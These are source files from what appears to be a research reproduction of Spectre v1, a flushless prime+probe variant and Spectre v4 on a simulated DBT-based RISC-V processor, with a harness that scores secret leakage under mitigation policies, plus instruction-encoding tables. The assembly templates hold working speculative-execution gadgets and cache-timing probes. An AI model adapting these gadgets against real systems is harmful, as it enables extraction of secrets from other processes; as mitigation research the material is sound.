victim with in-bounds indexes so the DBT engine (a) sees the bounds-check
branch as strongly biased not-taken, (b) merges the check and the
dependent loads into one superblock, and (c) lets the scheduler hoist the
two loads above the branch into hidden registers.  The attack call then
passes an out-of-bounds index: the hoisted loads execute regardless of
the (taken) bounds check, pulling ``array_val[secret << 6]`` into the
cache, and a flush+reload pass recovers the byte.

The bounds value is read through a short pointer chase so the branch's
operands are ready *late* in the static schedule — the DBT-world analogue
of the classical trick of flushing the bound so the branch resolves
slowly.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..isa.assembler import assemble
from ..isa.program import Program
from .sidechannel import (
    DEFAULT_THRESHOLD,
    LINE_SIZE,
    PROBE_ENTRIES,
    flush_probe_array,
    probe_and_classify,
    record_recovered,
    write_and_exit,
)

#: The planted secret.  Bytes must be non-zero: value 0 is the probe
#: entry excluded by the classifier (see probe_and_classify).
DEFAULT_SECRET = b"GHOSTBUSTERS!"

#: In-bounds buffer size the victim checks against.
BUFFER_SIZE = 16


@dataclass(frozen=True)
class SpectreV1Config:
    """Attack parameters."""

    secret: bytes = DEFAULT_SECRET
    #: Training calls before the attack rounds (must exceed the engine's
    #: hot threshold and the profiler's minimum branch samples).
    train_calls: int = 48
    threshold: int = DEFAULT_THRESHOLD

    def __post_init__(self) -> None:
        if not self.secret:
            raise ValueError("secret must be non-empty")
        if 0 in self.secret:
            raise ValueError("secret bytes must be non-zero (0 = 'no hit')")


_SOURCE_TEMPLATE = """
# ---- Spectre v1 on a DBT-based processor (paper Figure 1 / Sec. III-A)
.equ SECRET_LEN, {secret_len}
.equ TRAIN_CALLS, {train_calls}

_start:
    # --- Phase 1: training.  In-bounds calls make the victim hot, bias
    # the bounds check not-taken, and trigger superblock optimization.
    li s0, 0
train_loop:
    andi a0, s0, 7
    call victim
    addi s0, s0, 1
    li t0, TRAIN_CALLS
    blt s0, t0, train_loop

    # --- Phase 2: one round per secret byte.
    li s6, 0
round_loop:
{flush}
    # Malicious index: &secret[round] - &buffer (way out of bounds).
    la a0, secret
    add a0, a0, s6
    la t0, buffer
    sub a0, a0, t0
    call victim
{probe}
{record}
    addi s6, s6, 1
    li t0, SECRET_LEN
    blt s6, t0, round_loop
{epilogue}

# ---- The victim (Figure 1): bounds check guarding a dependent double
# load.  The bound is fetched through a pointer chase so the branch is
# late in the static schedule and the loads get hoisted above it.
victim:
    la t0, size_ptr
    ld t0, 0(t0)
    ld t0, 0(t0)
    ld t0, 0(t0)
    bgeu a0, t0, victim_done
    la t1, buffer
    add t1, t1, a0
    lbu t2, 0(t1)            # char a = buffer[index]     (speculated)
    slli t2, t2, 6           # a * LINE_SIZE
    la t3, array_val
    add t3, t3, t2
    lbu t4, 0(t3)            # char b = array_val[a*64]   (the leak)
victim_done:
    ret

.data
size_ptr:
    .dword size_cell_a
size_cell_a:
    .dword size_cell_b
size_cell_b:
    .dword {buffer_size}
buffer:
    .space {buffer_size}
secret:
{secret_bytes}
.align 6
array_val:
    .space {probe_bytes}
recovered:
    .space {recovered_space}
"""


def build_program(config: SpectreV1Config = SpectreV1Config()) -> Program:
    """Assemble the complete Spectre v1 guest program."""
    secret_bytes = "\n".join(
        "    .byte %d" % value for value in config.secret
    )
    source = _SOURCE_TEMPLATE.format(
        secret_len=len(config.secret),
        train_calls=config.train_calls,
        flush=flush_probe_array("flush_v1"),
        probe=probe_and_classify("probe_v1", threshold=config.threshold),
        record=record_recovered(),
        epilogue=write_and_exit(),
        buffer_size=BUFFER_SIZE,
        secret_bytes=secret_bytes,
        probe_bytes=PROBE_ENTRIES * LINE_SIZE,
        recovered_space=max(8, len(config.secret)),
    )
    return assemble(source)
