"""Spectre v1 through a prime+probe channel (no ``cflush`` required).

The paper's RISC-V PoC relies on an explicit line flush.  This variant
shows the leak survives even without any cache-maintenance instruction,
using the classic prime+probe recipe on a direct-mapped cache:

1. **prime** — the attacker walks its own 16 KiB array, filling every
   cache set with its own lines;
2. the victim's *speculative* load touches ``array_val[secret * 64]``;
   with both arrays 16 KiB-aligned and a direct-mapped cache, that
   evicts exactly the attacker's line in set ``secret``;
3. **probe** — the attacker re-times each of its lines; the one slow
   (miss) set names the secret byte.

Sets 0..7 are reserved for the victim's own scalars/buffer (known,
constant noise), so secret bytes must be >= 8 — printable ASCII is fine.

Mitigations are channel-agnostic: GhostBusters pins the flagged load, so
*neither* flush+reload nor prime+probe sees anything.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..isa.assembler import assemble
from ..isa.program import Program
from ..mem.cache import CacheConfig
from ..vliw.config import VliwConfig
from .sidechannel import DEFAULT_THRESHOLD, LINE_SIZE, PROBE_ENTRIES, write_and_exit

#: Sets reserved for the victim's own data (see module docstring).
RESERVED_SETS = 8

DEFAULT_SECRET = b"GHOSTBUSTERS!"


def direct_mapped_config() -> VliwConfig:
    """The machine this attack targets: 16 KiB direct-mapped D-cache,
    one set per possible secret-byte value."""
    return VliwConfig(cache=CacheConfig(
        size_bytes=PROBE_ENTRIES * LINE_SIZE,  # 16 KiB
        line_size=LINE_SIZE,
        associativity=1,
    ))


@dataclass(frozen=True)
class PrimeProbeConfig:
    """Attack parameters."""

    secret: bytes = DEFAULT_SECRET
    train_calls: int = 48
    threshold: int = DEFAULT_THRESHOLD

    def __post_init__(self) -> None:
        if not self.secret:
            raise ValueError("secret must be non-empty")
        if any(byte < RESERVED_SETS for byte in self.secret):
            raise ValueError(
                "secret bytes must be >= %d (reserved cache sets)" % RESERVED_SETS
            )


_SOURCE_TEMPLATE = """
# ---- Spectre v1 via prime+probe (flushless variant)
.equ SECRET_LEN, {secret_len}
.equ TRAIN_CALLS, {train_calls}
.equ ENTRIES, {entries}
.equ LINE, {line}
.equ THRESHOLD, {threshold}
.equ MIN_SET, {reserved}

_start:
    li s0, 0
train_loop:
    andi a0, s0, 7
    call victim
    addi s0, s0, 1
    li t0, TRAIN_CALLS
    blt s0, t0, train_loop

    li s6, 0
round_loop:
    # --- prime: walk the attacker's array, owning every set.
    la t0, probe_arr
    li t1, ENTRIES
prime_loop:
    lbu t2, 0(t0)
    addi t0, t0, LINE
    addi t1, t1, -1
    bnez t1, prime_loop

    # --- victim call with the malicious index.
    la a0, secret
    add a0, a0, s6
    la t0, buffer
    sub a0, a0, t0
    call victim

    # --- probe: the *slowest* set (above threshold) was evicted by the
    # victim's speculative access.  Sets below MIN_SET are the victim's
    # own data; skip them.
    li s1, MIN_SET
    li s2, 0
    li s3, 0
probe_loop:
    la t0, probe_arr
    slli t1, s1, 6
    add t0, t0, t1
    rdcycle t2
    lbu t3, 0(t0)
    add t4, t3, zero
    rdcycle t5
    sub t5, t5, t2
    ble t5, s3, probe_next
    mv s3, t5
    mv s2, s1
probe_next:
    addi s1, s1, 1
    li t0, ENTRIES
    blt s1, t0, probe_loop
    li t0, THRESHOLD
    bge s3, t0, have_hit
    li s2, 0
have_hit:
    la t0, recovered
    add t0, t0, s6
    sb s2, 0(t0)
    addi s6, s6, 1
    li t0, SECRET_LEN
    blt s6, t0, round_loop
{epilogue}

# ---- Same victim as the flush+reload v1 PoC.
victim:
    la t0, size_ptr
    ld t0, 0(t0)
    ld t0, 0(t0)
    ld t0, 0(t0)
    bgeu a0, t0, victim_done
    la t1, buffer
    add t1, t1, a0
    lbu t2, 0(t1)
    slli t2, t2, 6
    la t3, array_val
    add t3, t3, t2
    lbu t4, 0(t3)
victim_done:
    ret

.data
# Victim scalars live in the first reserved sets.
size_ptr:
    .dword size_cell_a
size_cell_a:
    .dword size_cell_b
size_cell_b:
    .dword 16
.align 6
buffer:
    .space 16
secret:
{secret_bytes}
# Both large arrays are cache-sized and cache-aligned: line k of either
# maps to set k of the direct-mapped cache.
.align 14
array_val:
    .space {array_bytes}
.align 14
probe_arr:
    .space {array_bytes}
recovered:
    .space {recovered_space}
"""


def build_program(config: PrimeProbeConfig = PrimeProbeConfig()) -> Program:
    """Assemble the prime+probe PoC."""
    secret_bytes = "\n".join("    .byte %d" % value for value in config.secret)
    source = _SOURCE_TEMPLATE.format(
        secret_len=len(config.secret),
        train_calls=config.train_calls,
        entries=PROBE_ENTRIES,
        line=LINE_SIZE,
        threshold=config.threshold,
        reserved=RESERVED_SETS,
        epilogue=write_and_exit(),
        secret_bytes=secret_bytes,
        array_bytes=PROBE_ENTRIES * LINE_SIZE,
        recovered_space=max(8, len(config.secret)),
    )
    return assemble(source)


def run_primeprobe(policy, secret: bytes = DEFAULT_SECRET):
    """Run the prime+probe attack under ``policy``; returns (recovered,
    run result)."""
    from ..platform.system import DbtSystem

    program = build_program(PrimeProbeConfig(secret=secret))
    system = DbtSystem(program, policy=policy,
                       vliw_config=direct_mapped_config())
    result = system.run()
    return result.output[:len(secret)], result
