"""Spectre v4 on the DBT platform: memory-dependency speculation.

Reconstruction of the paper's Figure 2 PoC (Section III-B).  The victim
stores a *safe* index into ``addr_buf[0]``, where the stored value is the
result of a long computation (a division chain), then immediately loads
``addr_buf[0]`` back and uses it to index ``buffer`` and the probe array.

Once the block is hot, the DBT engine cannot disambiguate the store and
the loads (base registers differ), so with memory speculation enabled the
scheduler hoists the loads above the slow store as MCB-tracked
speculative loads.  At run time the hoisted load reads the *stale* value
of ``addr_buf[0]`` — which the attacker primed with ``&secret - &buffer``
— so the dependent loads read the secret and touch a secret-indexed probe
line.  The store then hits the MCB (same address as the speculative
load), execution rolls back and the recovery code produces the correct
architectural result; the cache keeps the leak.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..isa.assembler import assemble
from ..isa.program import Program
from .sidechannel import (
    DEFAULT_THRESHOLD,
    LINE_SIZE,
    PROBE_ENTRIES,
    flush_probe_array,
    probe_and_classify,
    record_recovered,
    write_and_exit,
)

#: See spectre_v1: secret bytes must be non-zero.
DEFAULT_SECRET = b"GHOSTBUSTERS!"


@dataclass(frozen=True)
class SpectreV4Config:
    """Attack parameters."""

    secret: bytes = DEFAULT_SECRET
    #: Warm-up calls before the attack rounds (hotness threshold).
    warmup_calls: int = 24
    threshold: int = DEFAULT_THRESHOLD

    def __post_init__(self) -> None:
        if not self.secret:
            raise ValueError("secret must be non-empty")
        if 0 in self.secret:
            raise ValueError("secret bytes must be non-zero (0 = 'no hit')")


_SOURCE_TEMPLATE = """
# ---- Spectre v4 on a DBT-based processor (paper Figure 2 / Sec. III-B)
.equ SECRET_LEN, {secret_len}
.equ WARMUP_CALLS, {warmup_calls}

_start:
    # --- Phase 1: warm the victim up so the DBT engine optimizes it.
    li s0, 0
warm_loop:
    call prime_safe
    call victim
    addi s0, s0, 1
    li t0, WARMUP_CALLS
    blt s0, t0, warm_loop

    # --- Phase 2: one round per secret byte.
    li s6, 0
round_loop:
{flush}
    # Prime addr_buf[0] with the malicious index (&secret[round]-&buffer),
    # which the speculative load will read before the store replaces it.
    la t0, secret
    add t0, t0, s6
    la t1, buffer
    sub t0, t0, t1
    la t2, addr_buf
    sd t0, 0(t2)
    call victim
{probe}
{record}
    addi s6, s6, 1
    li t0, SECRET_LEN
    blt s6, t0, round_loop
{epilogue}

# ---- Priming helper for warm-up rounds: a benign stale value.
prime_safe:
    li t0, 1
    la t2, addr_buf
    sd t0, 0(t2)
    ret

# ---- The victim (Figure 2).  The stored value depends on a division
# chain, so in the static schedule the store is late while the loads are
# ready immediately: with memory speculation they are hoisted above it.
victim:
    li t3, 1000000
    li t4, 997
    div t5, t3, t4
    div t5, t5, t4           # "long computation"
    andi t5, t5, 7           # safe index, data-dependent on the chain
    la t2, addr_buf
    sd t5, 0(t2)             # addr_buf[0] = safe       (slow store)
    ld a0, 0(t2)             # int a = addr_buf[0]      (speculated: stale)
    la t1, buffer
    add t1, t1, a0
    lbu a1, 0(t1)            # char b = buffer[a]       (reads the secret)
    slli a1, a1, 6
    la t3, array_val
    add t3, t3, a1
    lbu a2, 0(t3)            # char c = array_val[b*64] (the leak)
    ret

.data
addr_buf:
    .space 64
buffer:
    .space 16
secret:
{secret_bytes}
.align 6
array_val:
    .space {probe_bytes}
recovered:
    .space {recovered_space}
"""


def build_program(config: SpectreV4Config = SpectreV4Config()) -> Program:
    """Assemble the complete Spectre v4 guest program."""
    secret_bytes = "\n".join(
        "    .byte %d" % value for value in config.secret
    )
    source = _SOURCE_TEMPLATE.format(
        secret_len=len(config.secret),
        warmup_calls=config.warmup_calls,
        flush=flush_probe_array("flush_v4"),
        probe=probe_and_classify("probe_v4", threshold=config.threshold),
        record=record_recovered(),
        epilogue=write_and_exit(),
        secret_bytes=secret_bytes,
        probe_bytes=PROBE_ENTRIES * LINE_SIZE,
        recovered_space=max(8, len(config.secret)),
    )
    return assemble(source)
