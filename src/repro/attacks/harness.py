"""Attack runner: execute a PoC under a mitigation policy and score it.

This is the host side of the paper's Section V-A experiment: run each
Spectre variant under each countermeasure configuration and check whether
the planted secret is recovered.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, Optional, Sequence

from ..isa.program import Program
from ..obs.leakage import LeakageReport, measure_leakage
from ..obs.pipeline import TelemetryConfig, spool_envelope, worker_observer
from ..obs.observer import Observer
from ..platform.metrics import SystemRunResult
from ..platform.system import DbtSystem
from ..resilience.faults import apply_worker_fault
from ..security.policy import ALL_POLICIES, MitigationPolicy
from . import spectre_v1, spectre_v4


class AttackVariant(enum.Enum):
    """The two PoCs of the paper."""

    SPECTRE_V1 = "spectre_v1"
    SPECTRE_V4 = "spectre_v4"


@dataclass
class AttackResult:
    """Outcome of one attack run."""

    variant: AttackVariant
    policy: MitigationPolicy
    secret: bytes
    recovered: bytes
    run: SystemRunResult
    #: Leakage meters (``run_attack(..., measure=True)`` only).
    leakage: Optional[LeakageReport] = None

    @property
    def bytes_recovered(self) -> int:
        return sum(
            1 for expected, actual in zip(self.secret, self.recovered)
            if expected == actual
        )

    @property
    def accuracy(self) -> float:
        return self.bytes_recovered / len(self.secret) if self.secret else 0.0

    @property
    def leaked(self) -> bool:
        """Whether the attack recovered the complete secret."""
        return self.recovered == self.secret

    def describe(self) -> str:
        return "%s under %-14s: %2d/%2d bytes (%s)" % (
            self.variant.value,
            self.policy.value,
            self.bytes_recovered,
            len(self.secret),
            "LEAKED" if self.leaked else "blocked",
        )


def build_attack_program(
    variant: AttackVariant, secret: bytes = spectre_v1.DEFAULT_SECRET,
) -> Program:
    """Assemble the PoC binary for ``variant``."""
    if variant is AttackVariant.SPECTRE_V1:
        return spectre_v1.build_program(spectre_v1.SpectreV1Config(secret=secret))
    return spectre_v4.build_program(spectre_v4.SpectreV4Config(secret=secret))


def run_attack(
    variant: AttackVariant,
    policy: MitigationPolicy = MitigationPolicy.UNSAFE,
    secret: bytes = spectre_v1.DEFAULT_SECRET,
    vliw_config=None,
    interpreter=None,
    engine_config=None,
    program=None,
    tcache_dir=None,
    measure=False,
    telemetry: Optional[TelemetryConfig] = None,
    fault=None,
) -> AttackResult:
    """Run one PoC under one policy and score the recovered bytes.

    ``program`` may carry a pre-assembled PoC binary (it must have been
    built for ``variant`` and ``secret``); when omitted the binary is
    assembled here.  Benchmarks prebuild so their walls measure the DBT
    platform rather than the guest assembler.

    ``measure`` attaches an observer and fills
    :attr:`AttackResult.leakage` with the run's leakage meters;
    ``telemetry`` additionally spools a telemetry envelope (the
    parallel pipeline).  Both leave results bit-identical — the
    no-Heisenberg gate — and both are picklable, so the attack matrix
    computes them inside pool workers.
    """
    apply_worker_fault(fault)
    if program is None:
        program = build_attack_program(variant, secret)
    observer = worker_observer(telemetry)
    if observer is None and measure:
        observer = Observer()
    system = DbtSystem(program, policy=policy, vliw_config=vliw_config,
                       engine_config=engine_config, interpreter=interpreter,
                       tcache_dir=tcache_dir, observer=observer)
    run = system.run()
    recovered = run.output[:len(secret)]
    result = AttackResult(
        variant=variant, policy=policy, secret=secret,
        recovered=recovered, run=run,
    )
    if measure and observer is not None:
        result.leakage = measure_leakage(observer.registry, result)
    spool_envelope(telemetry, observer)
    return result


def attack_matrix(
    secret: bytes = spectre_v1.DEFAULT_SECRET,
    policies: Sequence[MitigationPolicy] = ALL_POLICIES,
    variants: Sequence[AttackVariant] = tuple(AttackVariant),
    jobs: int = 1,
    interpreter=None,
    engine_config=None,
    timeout=None,
    retries: int = 2,
    backoff: float = 0.5,
    telemetry=None,
    worker_faults=None,
    programs=None,
    tcache_dir=None,
    measure=False,
    point_telemetry: Optional[TelemetryConfig] = None,
) -> Dict[AttackVariant, Dict[MitigationPolicy, AttackResult]]:
    """The Section V-A result matrix: variant x policy -> outcome.

    Every cell is an independent simulation, so ``jobs > 1`` fans the
    grid out over the hardened runner
    (:func:`repro.platform.parallel.run_points` — per-point ``timeout``,
    crash detection, ``retries`` with ``backoff``, serial fallback, and
    a :class:`~repro.platform.parallel.ParallelRunError` failure table
    when cells still fail).  Results are gathered in submission order
    (variants outermost, policies innermost), so the returned matrix is
    identical to the serial one.

    ``programs`` maps :class:`AttackVariant` to a pre-assembled PoC
    binary (built for this ``secret``); see :func:`run_attack`.
    ``measure``/``point_telemetry`` thread the leakage meters and the
    telemetry pipeline through to every cell's worker.
    """
    from ..platform.parallel import run_points

    if jobs < 1:
        raise ValueError("jobs must be >= 1")
    points = [(variant, policy) for variant in variants for policy in policies]

    def _cell_telemetry(variant, policy):
        if point_telemetry is None:
            return None
        return point_telemetry.with_point(
            "%s/%s" % (variant.value, policy.value),
            variant=variant.value, policy=policy.value)

    outcomes = run_points(
        run_attack,
        [(variant, policy, secret, None, interpreter, engine_config,
          programs.get(variant) if programs else None, tcache_dir,
          measure, _cell_telemetry(variant, policy))
         for variant, policy in points],
        labels=["%s/%s" % (variant.value, policy.value)
                for variant, policy in points],
        jobs=jobs,
        timeout=timeout,
        retries=retries,
        backoff=backoff,
        telemetry=telemetry,
        worker_faults=worker_faults,
    )
    matrix: Dict[AttackVariant, Dict[MitigationPolicy, AttackResult]] = {}
    for (variant, policy), outcome in zip(points, outcomes):
        matrix.setdefault(variant, {})[policy] = outcome
    return matrix


def format_matrix(
    matrix: Dict[AttackVariant, Dict[MitigationPolicy, AttackResult]],
) -> str:
    """Render the matrix as the paper's qualitative table."""
    lines = ["%-12s" % "variant" + "".join(
        "%18s" % policy.value for policy in ALL_POLICIES
    )]
    lines.append("-" * len(lines[0]))
    for variant, row in matrix.items():
        cells = []
        for policy in ALL_POLICIES:
            result = row.get(policy)
            if result is None:
                cells.append("%18s" % "-")
            else:
                cells.append("%18s" % (
                    "LEAKED" if result.leaked
                    else "blocked (%d/%d)" % (result.bytes_recovered, len(result.secret))
                ))
        lines.append("%-12s" % variant.value + "".join(cells))
    return "\n".join(lines)
