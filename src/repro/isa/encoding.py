"""Binary encoder: :class:`Instruction` -> 32-bit RISC-V word.

The encoder produces genuine RV64IM machine words so that the toolchain
round-trips through real binaries (the DBT engine consumes words, not
Python objects — exactly as Hybrid-DBT consumes RISC-V binaries).
"""

from __future__ import annotations

from .instruction import Instruction
from .opcodes import Format, Mnemonic, SPECS


class EncodingError(ValueError):
    """Raised when an instruction cannot be encoded (field out of range)."""


def _check_register(value: int, what: str) -> int:
    if not 0 <= value < 32:
        raise EncodingError("%s out of range: %d" % (what, value))
    return value


def _check_imm_signed(value: int, bits: int, what: str) -> int:
    low = -(1 << (bits - 1))
    high = (1 << (bits - 1)) - 1
    if not low <= value <= high:
        raise EncodingError(
            "%s immediate %d does not fit in %d signed bits" % (what, value, bits)
        )
    return value & ((1 << bits) - 1)


def encode(inst: Instruction) -> int:
    """Encode ``inst`` as a 32-bit little-endian instruction word."""
    spec = SPECS[inst.mnemonic]
    fmt = spec.fmt
    opcode = spec.opcode

    if fmt is Format.SYSTEM:
        assert spec.fixed_word is not None
        return spec.fixed_word

    rd = _check_register(inst.rd, "rd")
    rs1 = _check_register(inst.rs1, "rs1")
    rs2 = _check_register(inst.rs2, "rs2")

    if fmt is Format.R:
        return (
            (spec.funct7 << 25) | (rs2 << 20) | (rs1 << 15)
            | (spec.funct3 << 12) | (rd << 7) | opcode
        )
    if fmt is Format.I:
        imm = _check_imm_signed(inst.imm, 12, inst.mnemonic.value)
        return (imm << 20) | (rs1 << 15) | (spec.funct3 << 12) | (rd << 7) | opcode
    if fmt is Format.I_SHIFT:
        # RV64 shifts: 6-bit shamt for 64-bit ops, 5-bit for *W ops.
        is_word_op = inst.mnemonic in (Mnemonic.SLLIW, Mnemonic.SRLIW, Mnemonic.SRAIW)
        max_shift = 31 if is_word_op else 63
        if not 0 <= inst.imm <= max_shift:
            raise EncodingError(
                "shift amount %d out of range for %s" % (inst.imm, inst.mnemonic.value)
            )
        high = spec.funct7 << 25
        return high | (inst.imm << 20) | (rs1 << 15) | (spec.funct3 << 12) | (rd << 7) | opcode
    if fmt is Format.S:
        imm = _check_imm_signed(inst.imm, 12, inst.mnemonic.value)
        imm_high = (imm >> 5) & 0x7F
        imm_low = imm & 0x1F
        return (
            (imm_high << 25) | (rs2 << 20) | (rs1 << 15)
            | (spec.funct3 << 12) | (imm_low << 7) | opcode
        )
    if fmt is Format.B:
        if inst.imm % 2:
            raise EncodingError("branch offset must be even: %d" % inst.imm)
        imm = _check_imm_signed(inst.imm, 13, inst.mnemonic.value)
        bit12 = (imm >> 12) & 1
        bits10_5 = (imm >> 5) & 0x3F
        bits4_1 = (imm >> 1) & 0xF
        bit11 = (imm >> 11) & 1
        return (
            (bit12 << 31) | (bits10_5 << 25) | (rs2 << 20) | (rs1 << 15)
            | (spec.funct3 << 12) | (bits4_1 << 8) | (bit11 << 7) | opcode
        )
    if fmt is Format.U:
        if not -(1 << 19) <= inst.imm < (1 << 20):
            raise EncodingError("U-type immediate out of range: %d" % inst.imm)
        return ((inst.imm & 0xFFFFF) << 12) | (rd << 7) | opcode
    if fmt is Format.J:
        if inst.imm % 2:
            raise EncodingError("jump offset must be even: %d" % inst.imm)
        imm = _check_imm_signed(inst.imm, 21, inst.mnemonic.value)
        bit20 = (imm >> 20) & 1
        bits10_1 = (imm >> 1) & 0x3FF
        bit11 = (imm >> 11) & 1
        bits19_12 = (imm >> 12) & 0xFF
        return (
            (bit20 << 31) | (bits10_1 << 21) | (bit11 << 20)
            | (bits19_12 << 12) | (rd << 7) | opcode
        )
    if fmt is Format.CSR:
        if not 0 <= inst.imm < (1 << 12):
            raise EncodingError("CSR number out of range: %#x" % inst.imm)
        return (inst.imm << 20) | (rs1 << 15) | (spec.funct3 << 12) | (rd << 7) | opcode
    raise EncodingError("unhandled format: %r" % fmt)  # pragma: no cover


def encode_bytes(inst: Instruction) -> bytes:
    """Encode ``inst`` as its 4 little-endian bytes."""
    return encode(inst).to_bytes(4, "little")
