"""Opcode and instruction-format tables for the RV64IM guest ISA.

The guest ISA implemented by this reproduction is the ``rv64im`` subset used
by the paper (Section V-A: "implemented ... in RISC-V (using the rv64im
ISA)"), extended with:

* ``rdcycle`` (via the Zicsr ``csrrs`` encoding of the ``cycle`` CSR), which
  the paper's RISC-V attack uses to time probe loads, and
* a custom ``cflush`` instruction (custom-0 major opcode) performing an
  explicit data-cache line flush, standing in for the line-by-line flush
  the paper's RISC-V attack performs.

Each mnemonic is described by an :class:`InstructionSpec` carrying its
encoding format and the fixed fields (major opcode, funct3, funct7) needed
to produce and recognise real 32-bit instruction words.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, Optional


class Format(enum.Enum):
    """RISC-V instruction encoding formats."""

    R = "R"
    I = "I"  # noqa: E741 - standard RISC-V format name
    S = "S"
    B = "B"
    U = "U"
    J = "J"
    #: I-format with a shift amount in the low immediate bits (shamt).
    I_SHIFT = "I_SHIFT"
    #: System instructions with a fully fixed 32-bit encoding.
    SYSTEM = "SYSTEM"
    #: Zicsr instructions: I-format with the CSR number in the immediate.
    CSR = "CSR"


class Mnemonic(enum.Enum):
    """All guest instructions understood by the toolchain."""

    # RV32I base.
    LUI = "lui"
    AUIPC = "auipc"
    JAL = "jal"
    JALR = "jalr"
    BEQ = "beq"
    BNE = "bne"
    BLT = "blt"
    BGE = "bge"
    BLTU = "bltu"
    BGEU = "bgeu"
    LB = "lb"
    LH = "lh"
    LW = "lw"
    LBU = "lbu"
    LHU = "lhu"
    SB = "sb"
    SH = "sh"
    SW = "sw"
    ADDI = "addi"
    SLTI = "slti"
    SLTIU = "sltiu"
    XORI = "xori"
    ORI = "ori"
    ANDI = "andi"
    SLLI = "slli"
    SRLI = "srli"
    SRAI = "srai"
    ADD = "add"
    SUB = "sub"
    SLL = "sll"
    SLT = "slt"
    SLTU = "sltu"
    XOR = "xor"
    SRL = "srl"
    SRA = "sra"
    OR = "or"
    AND = "and"
    FENCE = "fence"
    ECALL = "ecall"
    EBREAK = "ebreak"
    # RV64I widening / 64-bit memory.
    LWU = "lwu"
    LD = "ld"
    SD = "sd"
    ADDIW = "addiw"
    SLLIW = "slliw"
    SRLIW = "srliw"
    SRAIW = "sraiw"
    ADDW = "addw"
    SUBW = "subw"
    SLLW = "sllw"
    SRLW = "srlw"
    SRAW = "sraw"
    # M extension.
    MUL = "mul"
    MULH = "mulh"
    MULHSU = "mulhsu"
    MULHU = "mulhu"
    DIV = "div"
    DIVU = "divu"
    REM = "rem"
    REMU = "remu"
    MULW = "mulw"
    DIVW = "divw"
    DIVUW = "divuw"
    REMW = "remw"
    REMUW = "remuw"
    # Zicsr (only the register forms; enough for rdcycle and friends).
    CSRRW = "csrrw"
    CSRRS = "csrrs"
    CSRRC = "csrrc"
    # Custom cache management (custom-0 major opcode).
    CFLUSH = "cflush"


@dataclass(frozen=True)
class InstructionSpec:
    """Static encoding description of one mnemonic."""

    mnemonic: Mnemonic
    fmt: Format
    opcode: int
    funct3: Optional[int] = None
    funct7: Optional[int] = None
    #: For SYSTEM format: the full fixed 32-bit word.
    fixed_word: Optional[int] = None


# Major opcodes (bits [6:0]).
OP_LUI = 0b0110111
OP_AUIPC = 0b0010111
OP_JAL = 0b1101111
OP_JALR = 0b1100111
OP_BRANCH = 0b1100011
OP_LOAD = 0b0000011
OP_STORE = 0b0100011
OP_IMM = 0b0010011
OP_IMM32 = 0b0011011
OP_REG = 0b0110011
OP_REG32 = 0b0111011
OP_MISC_MEM = 0b0001111
OP_SYSTEM = 0b1110011
OP_CUSTOM0 = 0b0001011

#: CSR numbers exposed to the guest.
CSR_CYCLE = 0xC00
CSR_TIME = 0xC01
CSR_INSTRET = 0xC02

_R = Format.R
_I = Format.I
_S = Format.S
_B = Format.B
_U = Format.U
_J = Format.J

_SPEC_LIST = [
    InstructionSpec(Mnemonic.LUI, _U, OP_LUI),
    InstructionSpec(Mnemonic.AUIPC, _U, OP_AUIPC),
    InstructionSpec(Mnemonic.JAL, _J, OP_JAL),
    InstructionSpec(Mnemonic.JALR, _I, OP_JALR, funct3=0b000),
    InstructionSpec(Mnemonic.BEQ, _B, OP_BRANCH, funct3=0b000),
    InstructionSpec(Mnemonic.BNE, _B, OP_BRANCH, funct3=0b001),
    InstructionSpec(Mnemonic.BLT, _B, OP_BRANCH, funct3=0b100),
    InstructionSpec(Mnemonic.BGE, _B, OP_BRANCH, funct3=0b101),
    InstructionSpec(Mnemonic.BLTU, _B, OP_BRANCH, funct3=0b110),
    InstructionSpec(Mnemonic.BGEU, _B, OP_BRANCH, funct3=0b111),
    InstructionSpec(Mnemonic.LB, _I, OP_LOAD, funct3=0b000),
    InstructionSpec(Mnemonic.LH, _I, OP_LOAD, funct3=0b001),
    InstructionSpec(Mnemonic.LW, _I, OP_LOAD, funct3=0b010),
    InstructionSpec(Mnemonic.LD, _I, OP_LOAD, funct3=0b011),
    InstructionSpec(Mnemonic.LBU, _I, OP_LOAD, funct3=0b100),
    InstructionSpec(Mnemonic.LHU, _I, OP_LOAD, funct3=0b101),
    InstructionSpec(Mnemonic.LWU, _I, OP_LOAD, funct3=0b110),
    InstructionSpec(Mnemonic.SB, _S, OP_STORE, funct3=0b000),
    InstructionSpec(Mnemonic.SH, _S, OP_STORE, funct3=0b001),
    InstructionSpec(Mnemonic.SW, _S, OP_STORE, funct3=0b010),
    InstructionSpec(Mnemonic.SD, _S, OP_STORE, funct3=0b011),
    InstructionSpec(Mnemonic.ADDI, _I, OP_IMM, funct3=0b000),
    InstructionSpec(Mnemonic.SLTI, _I, OP_IMM, funct3=0b010),
    InstructionSpec(Mnemonic.SLTIU, _I, OP_IMM, funct3=0b011),
    InstructionSpec(Mnemonic.XORI, _I, OP_IMM, funct3=0b100),
    InstructionSpec(Mnemonic.ORI, _I, OP_IMM, funct3=0b110),
    InstructionSpec(Mnemonic.ANDI, _I, OP_IMM, funct3=0b111),
    # RV64 shifts use a 6-bit shamt; funct7 here is the top 6 bits
    # (funct6) shifted into the funct7 position with bit 0 free.
    InstructionSpec(Mnemonic.SLLI, Format.I_SHIFT, OP_IMM, funct3=0b001, funct7=0b0000000),
    InstructionSpec(Mnemonic.SRLI, Format.I_SHIFT, OP_IMM, funct3=0b101, funct7=0b0000000),
    InstructionSpec(Mnemonic.SRAI, Format.I_SHIFT, OP_IMM, funct3=0b101, funct7=0b0100000),
    InstructionSpec(Mnemonic.ADD, _R, OP_REG, funct3=0b000, funct7=0b0000000),
    InstructionSpec(Mnemonic.SUB, _R, OP_REG, funct3=0b000, funct7=0b0100000),
    InstructionSpec(Mnemonic.SLL, _R, OP_REG, funct3=0b001, funct7=0b0000000),
    InstructionSpec(Mnemonic.SLT, _R, OP_REG, funct3=0b010, funct7=0b0000000),
    InstructionSpec(Mnemonic.SLTU, _R, OP_REG, funct3=0b011, funct7=0b0000000),
    InstructionSpec(Mnemonic.XOR, _R, OP_REG, funct3=0b100, funct7=0b0000000),
    InstructionSpec(Mnemonic.SRL, _R, OP_REG, funct3=0b101, funct7=0b0000000),
    InstructionSpec(Mnemonic.SRA, _R, OP_REG, funct3=0b101, funct7=0b0100000),
